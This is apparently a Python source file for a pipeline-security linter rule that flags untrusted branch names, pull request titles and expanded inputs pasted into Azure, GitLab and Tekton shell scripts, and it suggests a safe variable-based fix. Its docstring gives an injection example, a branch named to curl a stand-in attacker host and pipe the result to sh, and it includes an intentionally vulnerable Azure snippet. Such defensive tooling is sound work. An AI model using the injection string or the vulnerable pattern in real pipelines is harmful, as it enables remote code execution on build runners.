"""Text that strangers write is put into a script of a pipeline as it is.

## What it does
Reports scripts of GitLab with an input whose variables are expanded, of Azure with `$(Build.SourceBranchName)` and
alike, and of Tekton with the title or body of a pull request.

## Why it matters
The text is pasted before the shell sees it. A branch called `x$(curl evil.example|sh)` runs that on the runner.

## Bad
```yaml title="azure-pipelines.yml"
steps:
  - checkout: self
  - script: echo "Building $(Build.SourceBranchName)"  # <-
```

## Good
```yaml title="azure-pipelines.yml"
steps:
  - checkout: self
  - script: echo "Building $BUILD_SOURCEBRANCHNAME"
```

## Fix
Reads the variable that Azure sets for the shell, which is not read as code. Safe inside of double quotes of a script
for `bash`; there is none for the others.

## References
- [Azure: secure use of variables](https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs)
- [GitLab: inputs](https://docs.gitlab.com/ci/inputs/)

## Equivalent rules
- `poutine:injection`
"""

from collections.abc import Iterator
from typing import Final

from rollsafe.artefacts.kubernetes import KubernetesObject
from rollsafe.artefacts.other_pipelines import Dialect, PipelineConfiguration
from rollsafe.formats.nodes import Mapping, Node, Scalar, Sequence, walk
from rollsafe.formats.scalar_text import script_offsets
from rollsafe.rules import Edit, Finding, Fix, Level, Safety, Severity, Span, rule
from rollsafe.rules.script_variables import quote_before
from rollsafe.text.patterns import lazily
from rollsafe.workspace.foreign_code import pull_request_scripts

_AZURE = lazily(
    r"\$\((Build\.(?:SourceBranchName|SourceBranch|SourceVersionMessage)|System\.PullRequest\.SourceBranch)\)"
)
_GITLAB = lazily(r"\$\[\[\s*[^\]]*?(inputs\.[\w-]+)[^\]]*?expand_vars[^\]]*?\s*\]\]")
_TEKTON = lazily(r"\{\{\s*(body\.pull_request\.(?:title|user\.email|body)|source_branch)\s*\}\}")
_KEYS: Final = {
    Dialect.AZURE: ("script", "bash", "pwsh", "powershell"),
    Dialect.GITLAB: ("before_script", "script", "after_script"),
}
_POSIX: Final = ("script", "bash")


@rule(severity=Severity.WARNING, level=Level.PEDANTIC, since="0.1.0", fix=Safety.SAFE)
def check(part: PipelineConfiguration | KubernetesObject) -> Iterator[Finding]:
    """Yield a finding for each text of a stranger in a script."""
    if isinstance(part, KubernetesObject):
        for step, scalar in pull_request_scripts(part):
            for found in _TEKTON.finditer(scalar.text):
                yield Finding(
                    step,
                    f"`{found[1]}` is pasted into the script of this step: whoever decides it writes shell here",
                )
        return
    pattern = _AZURE if part.dialect is Dialect.AZURE else _GITLAB
    if part.dialect not in _KEYS or pattern.search(part.file.text) is None:
        return
    for key, scalar in _scripts(part):
        for found in pattern.finditer(scalar.text):
            shell = key if part.dialect is Dialect.AZURE else ""
            yield _finding(part.file.text, scalar, found.span(), found[1], shell)


def _scripts(part: PipelineConfiguration) -> Iterator[tuple[str, Scalar]]:
    keys = _KEYS[part.dialect]
    for node in walk(part.root):
        for entry in node.entries if isinstance(node, Mapping) else ():
            if entry.name in keys:
                yield from ((entry.name, one) for one in _scalars(entry.value))


def _scalars(node: Node) -> Iterator[Scalar]:
    if isinstance(node, Scalar):
        yield node
    elif isinstance(node, Sequence):
        yield from (item for item in node.items if isinstance(item, Scalar))


def _finding(text: str, scalar: Scalar, span: tuple[int, int], name: str, shell: str) -> Finding:
    at = script_offsets(text, scalar)
    place = Span(at(span[0]), at(span[1]))
    fixes: tuple[Fix, ...] = ()
    if (
        shell in _POSIX
        and quote_before(scalar.text, span[0]) == '"'
        and (scalar.plain or scalar.block == "|")
    ):
        variable = name.upper().replace(".", "_")
        fixes = (Fix(f"Read the variable `{variable}`", Safety.SAFE, edits=(Edit(place, f"${variable}"),)),)
    return Finding(
        place,
        f"`{name}` is pasted into a script: whoever decides it writes shell here",
        fixes=fixes,
    )
